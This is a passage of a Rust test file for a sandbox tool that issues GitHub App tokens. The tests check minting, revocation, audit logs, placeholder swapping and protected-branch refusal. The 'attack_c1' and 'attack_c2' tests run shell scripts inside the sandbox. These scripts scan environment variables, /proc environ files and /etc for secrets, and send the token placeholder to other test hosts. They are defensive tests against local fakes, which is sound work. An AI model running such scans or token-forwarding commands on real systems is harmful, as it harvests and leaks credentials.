        "EV_SLASH",
        "EV_REPO_PERCENT",
        "EV_LOWER_METHOD",
        "EV_REPO_ID",
        "EV_TRAILING",
        "EV_DOUBLE_SLASH",
        "EV_FULL_REF",
        "EV_DUP_KEY",
        "EV_GQL_ESCAPE",
        "EV_GQL_ESCAPE2",
        "EV_GQL_COMMENT",
        "EV_GQL_BATCH",
    ] {
        let l = line(&out.stdout, &format!("{k}="));
        let (body, status) = l.rsplit_once(' ').unwrap_or(("", &l));
        assert_eq!(status, "403", "{k} was not refused: {l}");
        let v: Value =
            serde_json::from_str(body).unwrap_or_else(|e| panic!("{k}: not JSON ({e}): {l}"));
        assert!(
            v["message"]
                .as_str()
                .is_some_and(|m| m.contains("protected")),
            "{k}: {l}"
        );
    }
    // Bodies and paths the door cannot judge are refused (400 or 403).
    for k in ["EV_DOT_SEGMENT", "EV_GZIP_BODY", "EV_GQL_GET"] {
        let l = line(&out.stdout, &format!("{k}="));
        assert!(
            l.ends_with(" 400") || l.ends_with(" 403"),
            "{k} was not refused: {l}"
        );
        assert!(l.contains("moat:"), "{k}: {l}");
    }
    // Merging a pull request is refused whatever its base.
    let l = line(&out.stdout, "PR_MERGE=");
    let (body, status) = l.rsplit_once(' ').unwrap_or(("", &l));
    assert_eq!(status, "403", "PR_MERGE was not refused: {l}");
    let v: Value =
        serde_json::from_str(body).unwrap_or_else(|e| panic!("PR_MERGE: not JSON ({e}): {l}"));
    assert!(
        v["message"]
            .as_str()
            .is_some_and(|m| m.starts_with("moat:") && m.contains("refused")),
        "PR_MERGE: {l}"
    );
    let put = line(&out.stdout, "PUT_FEATURE=");
    assert!(put.ends_with(" 201"), "{put}");
    let q = line(&out.stdout, "GQL_QUERY=");
    assert!(q.ends_with(" 200") && q.contains(REPO), "{q}");

    // The fake got exactly the two allowed calls.
    let got: Vec<(String, String)> = fake
        .sandbox_requests()
        .iter()
        .map(|r| {
            (
                r["method"].as_str().unwrap().to_string(),
                r["path"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            (
                "PUT".to_string(),
                format!("/repos/{OWNER}/{REPO}/contents/api.txt")
            ),
            ("POST".to_string(), "/graphql".to_string()),
        ],
        "a refused call reached the fake:\n{}",
        fake.text()
    );
    assert_eq!(fake.branch(REPO, "main"), Some(main0), "main moved");
    let tip = fake.branch(REPO, "feature-x").unwrap();
    assert_ne!(tip, c1);
    assert_eq!(
        git(
            &fake.bare(REPO),
            &["--git-dir", ".", "show", &format!("{tip}:api.txt")]
        ),
        "hi"
    );
    fake.assert_swapped(&[&ph]);
    let r = assert_github_record(
        &sb,
        "PATCH",
        "api.github.com",
        &format!("/repos/{OWNER}/{REPO}/git/refs/heads/main"),
        Some(403),
        "denied",
    );
    assert!(
        r["reason"]
            .as_str()
            .is_some_and(|s| s.contains("protected")),
        "{r}"
    );
    assert_github_record(
        &sb,
        "PUT",
        "api.github.com",
        &format!("/repos/{OWNER}/{REPO}/contents/api.txt"),
        Some(201),
        "allowed",
    );
}

/// Keys every audit record about GitHub must never contain.
fn secrets_of(fake: &FakeGithub) -> Vec<(String, &'static str)> {
    let mut s = vec![(app_key().line.clone(), "a line of the App's private key")];
    for t in fake.tokens() {
        s.push((
            basic(&t)["Basic ".len()..].to_string(),
            "the installation token in Basic form",
        ));
        s.push((t, "the installation token"));
    }
    for j in fake.jwts() {
        s.push((
            j.rsplit('.').next().unwrap().to_string(),
            "the App JWT's signature",
        ));
        s.push((j, "the App JWT"));
    }
    s
}

fn mint_once_revoke_and_audit(b: Backend) {
    let fake = FakeGithub::start();
    let sb = Sandbox::new(b, "gh-mint");
    let out = run(
        &sb,
        &fake,
        &["--github", &repo_arg(REPO), "--github", &repo_arg(REPO2)],
        r#"
echo "PH=$GH_TOKEN"
for r in @R@ @R2@ @R@; do echo "GET_$r=$(curl -sS -m 30 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/repos/@O@/$r)"; done
t lsremote git ls-remote https://github.com/@O@/@R2@.git
"#,
    );
    assert_ok(&out);
    let ph = placeholder(&out);
    assert_eq!(line(&out.stdout, &format!("GET_{REPO}=")), "200");
    assert_eq!(line(&out.stdout, &format!("GET_{REPO2}=")), "200");
    out.probes().succeeded("lsremote", "refs/heads/main");

    let minted = fake.kind("minted");
    assert_eq!(minted.len(), 1, "one mint per run:\n{}", fake.text());
    let m = &minted[0];
    let repos: BTreeSet<&str> = m["repositories"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap())
        .collect();
    assert_eq!(repos, BTreeSet::from([REPO, REPO2]));
    assert_eq!(
        m["permissions"],
        json!({"contents": "write", "pull_requests": "write"})
    );
    assert!(fake.kind("jwt-refused").is_empty(), "{}", fake.text());
    let token = m["token"].as_str().unwrap();
    let revoked = fake.wait_for("revoked", |r| r["token"] == token);
    assert_eq!(fake.kind("revoked").len(), 1);
    // The revoke came after the sandbox's last request.
    let recs = fake.records();
    let pos = |pred: &dyn Fn(&Value) -> bool| recs.iter().rposition(pred).unwrap();
    let last_use = pos(&|r| r["kind"] == "request" && r["path"].as_str().unwrap().contains(REPO2));
    let revoke_at = pos(&|r| *r == revoked);
    assert!(
        revoke_at > last_use,
        "revoked before the sandbox ended:\n{}",
        fake.text()
    );
    fake.assert_swapped(&[&ph]);

    // Audit: one minted and one revoked record, and one record per request.
    let audit = sb.audit();
    let tok: Vec<&Value> = audit
        .records
        .iter()
        .filter(|r| r["kind"] == "github-token")
        .collect();
    let minted_rec: Vec<&&Value> = tok.iter().filter(|r| r["event"] == "minted").collect();
    let revoked_rec: Vec<&&Value> = tok.iter().filter(|r| r["event"] == "revoked").collect();
    assert_eq!(
        (minted_rec.len(), revoked_rec.len()),
        (1, 1),
        "{}",
        audit.text
    );
    for r in [minted_rec[0], revoked_rec[0]] {
        let names: BTreeSet<String> = r["repositories"]
            .as_array()
            .unwrap_or_else(|| panic!("no repositories: {r}"))
            .iter()
            .map(|v| {
                v.as_str()
                    .unwrap()
                    .trim_start_matches(&format!("{OWNER}/"))
                    .to_string()
            })
            .collect();
        assert_eq!(
            names,
            BTreeSet::from([REPO.to_string(), REPO2.to_string()]),
            "{r}"
        );
        assert_eq!(r["permissions"], m["permissions"], "{r}");
        let exp = &r["expires_at"];
        assert!(
            *exp == m["expires_at_unix"] || *exp == m["expires_at"],
            "expires_at {exp} is not the fake's {} / {}",
            m["expires_at_unix"],
            m["expires_at"]
        );
    }
    for repo in [REPO, REPO2] {
        assert_github_record(
            &sb,
            "GET",
            "api.github.com",
            &format!("/repos/{OWNER}/{repo}"),
            Some(200),
            "allowed",
        );
    }
    assert_github_record(
        &sb,
        "GET",
        "github.com",
        &format!("/{OWNER}/{REPO2}.git/info/refs"),
        Some(200),
        "allowed",
    );
    let n_api = github_records(&sb)
        .iter()
        .filter(|r| r["host"] == "api.github.com")
        .count();
    assert_eq!(n_api, 3, "{}", audit.text);
    let text = audit_text(&sb);
    for (s, what) in secrets_of(&fake) {
        assert!(!text.contains(&s), "{what} is in the audit log");
        assert!(!out.stderr.contains(&s), "{what} is in moat's log");
    }
    assert!(!text.contains(&ph), "the placeholder is in the audit log");

    // --github-permission changes the scope asked for.
    let sb = Sandbox::new(b, "gh-mint-read");
    let out = run(
        &sb,
        &fake,
        &[
            "--github",
            &repo_arg(REPO),
            "--github-permission",
            "contents=read",
        ],
        &(GIT_SETUP.to_string()
            + r#"
t clone git clone -q https://github.com/@O@/@R@.git /tmp/r
cd /tmp/r && git commit -q --allow-empty -m x
t push git push origin HEAD:feature-read
"#),
    );
    assert_ok(&out);
    let p = out.probes();
    p.succeeded("clone", "");
    p.failed("push", None, "403");
    let minted = fake.kind("minted");
    assert_eq!(minted.len(), 2);
    assert_eq!(minted[1]["repositories"], json!([REPO]));
    assert_eq!(
        minted[1]["permissions"]["contents"], "read",
        "{}",
        minted[1]
    );
    assert_eq!(fake.branch(REPO, "feature-read"), None);
}

fn attack_c1(b: Backend) {
    let fake = FakeGithub::start();
    let sb = Sandbox::new(b, "gh-c1");
    // A request held by the fake for 3 s while everything readable is
    // scanned; a clone first, so the door has used the token for git too.
    let out = run(
        &sb,
        &fake,
        &["--github", &repo_arg(REPO)],
        r#"
git clone -q https://github.com/@O@/@R@.git /tmp/c1 || echo CLONE-FAILED
curl -sS -m 30 -H "X-Test-Delay: 3" -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/repos/@O@/@R@ > /tmp/slow.json 2>&1 &
sleep 1
echo "PH=$GH_TOKEN"
env
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/self/environ; do cat "$f" 2>/dev/null; echo; done
find /workspace /home/agent /tmp /etc /run /run/moat -xdev -type f -size -4M -exec cat {} + 2>/dev/null
wait
# The scan's last file may end without a newline (a binary, say).
echo
echo "SLOW=$(cat /tmp/slow.json)"
cp /run/moat/ca-bundle.pem /workspace/bundle.pem
echo SCAN-DONE
"#,
    );
    assert_ok(&out);
    let text = &out.stdout;
    assert!(
        !text.lines().any(|l| l == "CLONE-FAILED") && text.lines().last() == Some("SCAN-DONE"),
        "{text}"
    );
    let ph = placeholder(&out);
    // The scan saw what it had to: the placeholder in the environment and in
    // /proc, /etc, the lease's CA bundle, the clone.
    assert!(
        text.matches(&ph).count() >= 3,
        "the placeholder was seen fewer than 3 times"
    );
    assert!(text.contains("GH_TOKEN=ghs_moat") && text.contains("GITHUB_TOKEN=ghs_moat"));
    assert!(text.contains("root:"), "/etc/passwd was not read");
    let bundle = std::fs::read_to_string(sb.ws.join("bundle.pem")).expect("the lease's bundle");
    let host = std::fs::read_to_string("/etc/ssl/certs/ca-certificates.crt").unwrap_or_default();
    let lease_ca = certs(&bundle)
        .difference(&certs(&host))
        .next()
        .cloned()
        .expect("a lease CA in /run/moat/ca-bundle.pem");
    assert!(
        text.split_whitespace()
            .collect::<String>()
            .contains(&lease_ca),
        "/run/moat/ca-bundle.pem was not read"
    );
    assert!(
        text.contains(&format!("# {REPO}")),
        "the clone was not read"
    );
    assert!(
        line(text, "SLOW=").contains(&repo_arg(REPO)),
        "the held request failed"
    );
    let slow = fake
        .sandbox_requests()
        .into_iter()
        .find(|r| r["headers"]["x-test-delay"] == "3")
        .expect("the held request reached the fake");
    assert_eq!(slow["status"], 200);

    let secrets = secrets_of(&fake);
    assert!(
        secrets.len() >= 5,
        "the fake minted nothing: {}",
        fake.text()
    );
    let audit = audit_text(&sb);
    assert!(!audit.is_empty(), "no audit log");
    for (s, what) in &secrets {
        assert!(
            !text.contains(s.as_str()),
            "{what} is readable inside the sandbox"
        );
        assert!(!out.stderr.contains(s.as_str()), "{what} is in moat's log");
        assert!(!audit.contains(s.as_str()), "{what} is in the audit log");
    }
    assert!(!audit.contains(&ph), "the placeholder is in the audit log");
    assert!(
        !out.stderr.contains(&ph),
        "the placeholder is in moat's log"
    );
    fake.assert_swapped(&[&ph]);
}

fn attack_c2(b: Backend) {
    let fake = FakeGithub::start();
    // Another lease's placeholder.
    let other = Sandbox::new(b, "gh-c2-other");
    let o = run(
        &other,
        &fake,
        &["--github", &repo_arg(REPO)],
        "echo PH=$GH_TOKEN",
    );
    assert_ok(&o);
    let other_ph = placeholder(&o);

    let up = Upstream::loopback();
    let pki = Pki::new(&["front.test"]);
    let tls = TlsServer::start(&pki, None);
    let (p, t) = (up.port, tls.port);
    let mut sb = Sandbox::new(b, "gh-c2");
    sb.allow(&format!("web.test:{p}"))
        .pin("web.test", "127.0.0.1")
        .allow(&format!("uploads.github.com:{p}"))
        .pin("uploads.github.com", "127.0.0.1")
        .allow(&format!("front.test:{t}"))
        .pin("front.test", "127.0.0.1")
        .file("ca.pem", &pki.ca_pem());
    let script = r#"
echo "PH=$GH_TOKEN"
echo "BEARER=$(curl -sS -m 10 http://web.test:%P%/c2-bearer -H "Authorization: Bearer $GH_TOKEN")"
echo "TOKEN=$(curl -sS -m 10 http://web.test:%P%/c2-token -H "Authorization: token $GITHUB_TOKEN")"
echo "BASIC=$(curl -sS -m 10 -u "x-access-token:$GH_TOKEN" http://web.test:%P%/c2-basic)"
echo "SUB=$(curl -sS -m 10 http://uploads.github.com:%P%/c2-sub -H "Authorization: Bearer $GH_TOKEN")"
echo "TLS=$(curl -sS -m 10 --cacert /workspace/ca.pem https://front.test:%T%/c2-tls/$GH_TOKEN -H "Authorization: Bearer $GH_TOKEN")"
echo "OTHER_API=$(curl -sS -m 30 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer %OTHER%" https://api.github.com/repos/@O@/@R@)"
echo "OTHER_GIT=$(curl -sS -m 30 -o /dev/null -w '%{http_code}' -u x-access-token:%OTHER% 'https://github.com/@O@/@R@.git/info/refs?service=git-upload-pack')"
"#
    .replace("%P%", &p.to_string())
    .replace("%T%", &t.to_string())
    .replace("%OTHER%", &other_ph);
    let out = run(&sb, &fake, &["--github", &repo_arg(REPO)], &script);
    assert_ok(&out);
    let ph = placeholder(&out);
    assert_ne!(ph, other_ph, "two leases share a placeholder");
    for (k, path) in [
        ("BEARER", "/c2-bearer"),
        ("TOKEN", "/c2-token"),
        ("BASIC", "/c2-basic"),
        ("SUB", "/c2-sub"),
    ] {
        assert!(
            line(&out.stdout, &format!("{k}=")).starts_with(&format!("upstream-ok GET {path}")),
            "{k}: {}\n{}",
            out.stdout,
            out.stderr
        );
    }
    assert_eq!(line(&out.stdout, "TLS="), format!("tls-hello /c2-tls/{ph}"));
    assert_eq!(
        line(&out.stdout, "OTHER_API="),
        "401",
        "another lease's placeholder was accepted"
    );
    assert_eq!(
        line(&out.stdout, "OTHER_GIT="),
        "401",
        "another lease's placeholder was accepted"
    );

    // Elsewhere, the placeholder arrives exactly as sent.
    let hits = up.hits();
    assert_eq!(
        hits.len(),
        4,
        "{:?}",
        hits.iter().map(|h| h.request_line()).collect::<Vec<_>>()
    );
    let seen = |path: &str| {
        hits.iter()
            .find(|h| h.request_line().starts_with(&format!("GET {path} ")))
            .unwrap_or_else(|| panic!("{path} did not arrive"))
            .text()
    };
    assert!(
        seen("/c2-bearer").contains(&format!("Authorization: Bearer {ph}\r\n")),
        "{}",
        seen("/c2-bearer")
    );
    assert!(
        seen("/c2-token").contains(&format!("Authorization: token {ph}\r\n")),
        "{}",
        seen("/c2-token")
    );
    assert!(
        seen("/c2-basic").contains(&format!("Authorization: {}\r\n", basic(&ph))),
        "{}",
        seen("/c2-basic")
    );
    assert!(
        seen("/c2-sub").contains(&format!("Authorization: Bearer {ph}\r\n")),
        "{}",
        seen("/c2-sub")
    );
    let tls_paths: Vec<String> = tls.requests().into_iter().map(|r| r.1).collect();
    assert_eq!(tls_paths, [format!("/c2-tls/{ph}")]);
    let everything: String = hits.iter().map(|h| h.text()).collect();
    for (s, what) in secrets_of(&fake) {
        assert!(!everything.contains(&s), "{what} reached another host");
    }
    // Neither placeholder ever reached the fake GitHub.
    fake.assert_swapped(&[&ph, &other_ph]);
}

/// The certificates (PEM blocks, whitespace-normalised) in a bundle.
fn certs(pem: &str) -> BTreeSet<String> {
    pem.split("-----BEGIN CERTIFICATE-----")
        .skip(1)
        .filter_map(|c| c.split("-----END CERTIFICATE-----").next())
        .map(|c| c.split_whitespace().collect())
        .collect()
}

/// Python with only the system roots: the lease CA must not verify.
const SYSTEM_CA_PY: &str = r#"
import ssl, sys, urllib.request
ctx = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
try:
    urllib.request.urlopen("https://api.github.com/", context=ctx, timeout=30)
except Exception as e:
    print(repr(getattr(e, "reason", e)))
    sys.exit(1)
print("verified")
"#;

fn lease_ca(b: Backend) {
    const HOST_BUNDLE: &str = "/etc/ssl/certs/ca-certificates.crt";
    let before = std::fs::read(HOST_BUNDLE).expect("the host's CA bundle");
    let host_certs = certs(&String::from_utf8_lossy(&before));
    let fake = FakeGithub::start();
    let mut extra = Vec::new();
    for i in 0..2 {
        let mut sb = Sandbox::new(b, &format!("gh-ca{i}"));
        sb.file("system_ca.py", SYSTEM_CA_PY.as_bytes());
        let out = run(
            &sb,
            &fake,
            &["--github", &repo_arg(REPO)],
            r#"
cp /run/moat/ca-bundle.pem /workspace/bundle.pem
echo "SYS=$(cksum < /etc/ssl/certs/ca-certificates.crt)"
t lease curl -sS -f -m 30 -o /dev/null -w '%{http_code}' https://github.com/
t lease_api curl -sS -f -m 30 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/repos/@O@/@R@
t system curl -sS -m 30 -o /dev/null --cacert /etc/ssl/certs/ca-certificates.crt https://github.com/
t system_api curl -sS -m 30 -o /dev/null --cacert /etc/ssl/certs/ca-certificates.crt https://api.github.com/repos/@O@/@R@
t python python3 /workspace/system_ca.py
"#,
        );
        assert_ok(&out);
        let p = out.probes();
        p.succeeded("lease", "200");
        p.succeeded("lease_api", "200");
        p.failed("system", Some(60), "certificate");
        p.failed("system_api", Some(60), "certificate");
        p.failed("python", None, "CERTIFICATE_VERIFY_FAILED");
        // The sandbox's system bundle is the host's, without the lease CA.
        let host_sum = Command::new("sh")
            .args(["-c", &format!("cksum < {HOST_BUNDLE}")])
            .output()
            .unwrap();
        assert_eq!(
            line(&out.stdout, "SYS="),
            String::from_utf8_lossy(&host_sum.stdout).trim()
        );
        let bundle = std::fs::read_to_string(sb.ws.join("bundle.pem")).expect("the lease's bundle");
        let mine: Vec<String> = certs(&bundle).difference(&host_certs).cloned().collect();
        assert_eq!(
            mine.len(),
            1,
            "the lease bundle should add exactly one CA to the system's"
        );
        assert!(
            certs(&bundle).is_superset(&host_certs),
            "the lease bundle lacks system CAs"
        );
        // It is a CA certificate.
        let f = sb.dir.join("lease-ca.pem");
        std::fs::write(
            &f,
            format!(
                "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----\n",
                mine[0]
            ),
        )
        .unwrap();
        let o = Command::new("openssl")
            .args(["x509", "-noout", "-text", "-in"])
            .arg(&f)
            .output()
            .unwrap();
        let info = String::from_utf8_lossy(&o.stdout);
        assert!(o.status.success() && info.contains("CA:TRUE"), "{info}");
        extra.push(mine[0].clone());
    }
    assert_ne!(extra[0], extra[1], "two leases share a CA");
    assert_eq!(
        std::fs::read(HOST_BUNDLE).unwrap(),
        before,
        "the host's CA bundle changed"
    );
    // curl's GET https://github.com/ reached the fake's github.com side, with
    // the token added as for git.
    assert!(
        fake.sandbox_requests()
            .iter()
            .any(|r| r["path"] == "/" && r["server"] == "web" && r["status"] == 200),
        "{}",
        fake.text()
    );
    fake.assert_swapped(&[]);
}

fn node_fetch(b: Backend) {
    let fake = FakeGithub::start();
    let mut sb = Sandbox::new(b, "gh-node");
    sb.file(
        "fetch.js",
        fill(
            r#"
(async () => {
  try {
    const r = await fetch("https://api.github.com/repos/@O@/@R@", { headers: { Authorization: "Bearer " + process.env.GH_TOKEN }, signal: AbortSignal.timeout(20000) });
    console.log("NODE=" + JSON.stringify({ status: r.status, body: await r.json() }));
  } catch (e) {
    console.log("NODE=" + JSON.stringify({ error: String(e), cause: String(e.cause && (e.cause.code || e.cause)) }));
  }
})();
"#,
        )
        .as_bytes(),
    );
    let out = run(
        &sb,
        &fake,
        &["--github", &repo_arg(REPO)],
        "echo PH=$GH_TOKEN; node /workspace/fetch.js",
    );
    assert_ok(&out);
    let ph = placeholder(&out);
    let v: Value = serde_json::from_str(&line(&out.stdout, "NODE=")).unwrap();
    assert_eq!(v["status"], 200, "{v}");
    assert_eq!(v["body"]["full_name"], repo_arg(REPO), "{v}");
    fake.assert_swapped(&[&ph]);
}

/// GitHub's own CLI, unchanged: it reads GH_TOKEN (the placeholder) and the
/// CA bundle from SSL_CERT_FILE, and goes through HTTPS_PROXY.
fn gh_cli(b: Backend) {
    let fake = FakeGithub::start();
    let sb = Sandbox::new(b, "gh-cli");
    let script = fill(
        r#"echo PH=$GH_TOKEN
echo "VIEW=$(gh api repos/@O@/@R@ 2>&1)"
echo "WRITE=$(gh api -X PATCH repos/@O@/@R@/git/refs/heads/main -f sha=0000000000000000000000000000000000000000 2>&1; echo " rc=$?")""#,
    );
    let out = run(&sb, &fake, &["--github", &repo_arg(REPO)], &script);
    assert_ok(&out);
    let ph = placeholder(&out);
    let v: Value = serde_json::from_str(&line(&out.stdout, "VIEW="))
        .unwrap_or_else(|e| panic!("gh api did not print JSON ({e}): {}", &out.stdout));
    assert_eq!(v["full_name"], repo_arg(REPO), "{v}");
    let w = line(&out.stdout, "WRITE=");
    assert!(
        w.contains("protected branch main") && w.contains("HTTP 403") && !w.ends_with("rc=0"),
        "{w}"
    );
    fake.assert_swapped(&[&ph]);
}

/// `gh pr create`, unchanged, through the door: it finds the repository
/// and opens the pull request over GraphQL (`createPullRequest`), which
/// the door lets through to a feature branch.
fn gh_pr_create(b: Backend) {
    let fake = FakeGithub::start();
    let sb = Sandbox::new(b, "gh-pr");
    let out = run(
        &sb,
        &fake,
        &["--github", &repo_arg(REPO)],
        &(GIT_SETUP.to_string()
            + r#"
t clone git clone -q https://github.com/@O@/@R@.git /tmp/r
cd /tmp/r || exit 3
git checkout -q -b feature-pr && echo change > pr.txt && git add pr.txt && git commit -q -m pr
t push git push -q origin feature-pr
echo "PR=$(gh pr create --repo @O@/@R@ --head feature-pr --base main --title 'Fix it' --body 'Made in a sandbox' 2>&1 | tail -n 1)"
"#),
    );
    assert_ok(&out);
    let ph = placeholder(&out);
    out.probes().succeeded("push", "");
    let pulls = fake.kind("pull");
    assert_eq!(pulls.len(), 1, "{pulls:?}\n{}", fake.text());
    assert_eq!(pulls[0]["via"], "graphql", "{pulls:?}");
    assert_eq!(pulls[0]["head"], "feature-pr", "{pulls:?}");
    assert_eq!(pulls[0]["title"], "Fix it", "{pulls:?}");
    assert_eq!(
        line(&out.stdout, "PR="),
        format!("https://github.com/{}/pull/1", repo_arg(REPO)),
        "{}",
        out.stderr
    );
    fake.assert_swapped(&[&ph]);
}

#[test]
fn github_without_the_app_variables_fails_naming_the_variable() {
    let sb = Sandbox::new(Backend::Bwrap, "gh-novars");
    let cases: [(&[(&str, &str)], &str); 2] = [
        (&[], "GITHUB_APP_ID"),
        (&[("GITHUB_APP_ID", APP_ID)], "GITHUB_APP_PRIVATE_KEY"),
    ];
    for (set, missing) in cases {
        let mut c = sb.command();
        for v in [
            "GITHUB_APP_ID",
            "GITHUB_APP_PRIVATE_KEY",
            "GITHUB_APP_INSTALLATION_ID",
        ] {
            c.env_remove(v);
        }
        for (k, v) in set {
            c.env(k, v);
        }
        let o = c
            .args([
                "--github",
                &repo_arg(REPO),
                "--",
                "/bin/sh",
                "-c",
                "touch /workspace/ran",
            ])
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(125), "{err}");
        assert!(
            err.lines().any(|l| l.starts_with("moat:")
                && l.contains("GitHub is not available")
                && l.contains(missing)),
            "{err}"
        );
        assert!(!sb.ws.join("ran").exists(), "the sandbox ran");
    }
}

/// A one-line key (`\n` written literally) is accepted too; github.com and
/// api.github.com may share one upstream.
#[test]
fn github_app_key_on_one_line_is_accepted() {
    let fake = FakeGithub::start();
    let sb = Sandbox::new(Backend::Bwrap, "gh-oneline");
    let o = gh_command(&sb, &fake)
        .env("GITHUB_APP_PRIVATE_KEY", app_key().private_pem.trim_end().replace('\n', "\\n"))
        .env("MOAT_GITHUB_URL", fake.api_url())
        .args(["--github", &repo_arg(REPO), "--", "/bin/sh", "-c"])
        .arg(fill("curl -sS -f -m 30 -H \"Authorization: Bearer $GH_TOKEN\" https://api.github.com/repos/@O@/@R@ && git ls-remote https://github.com/@O@/@R@.git"))
        .output()
        .unwrap();
    let (out, err) = (
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr),
    );
    assert_eq!(o.status.code(), Some(0), "{out}\n{err}");
    assert!(
        out.contains(&repo_arg(REPO)) && out.contains("refs/heads/main"),
        "{out}"
    );
    assert_eq!(fake.kind("minted").len(), 1);
    assert!(fake.kind("request").iter().all(|r| r["server"] == "api"));
}

net_tests! {
    attack_g2_a_push_to_protected_main_is_refused_and_a_feature_branch_passes => git_push_protection;
    github_a_refused_push_reads_the_same_in_each_git => git_push_refusal_reads_the_same_in_each_git;
    github_api_through_curl_and_python => api_clients;
    github_api_writes_to_protected_branches_are_refused => api_push_protection;
    github_gh_cli_works_unchanged => gh_cli;
    github_gh_pr_create_opens_a_pull_request_over_graphql => gh_pr_create;
    github_one_mint_per_run_revoke_and_audit => mint_once_revoke_and_audit;
    github_lease_ca_is_per_lease_and_only_in_the_lease_bundle => lease_ca;
    github_node_fetch_reaches_the_api => node_fetch;
    attack_c1_github_secrets_are_not_in_the_sandbox => attack_c1;
    attack_c2_github_placeholder_to_other_host_is_not_swapped => attack_c2;
}
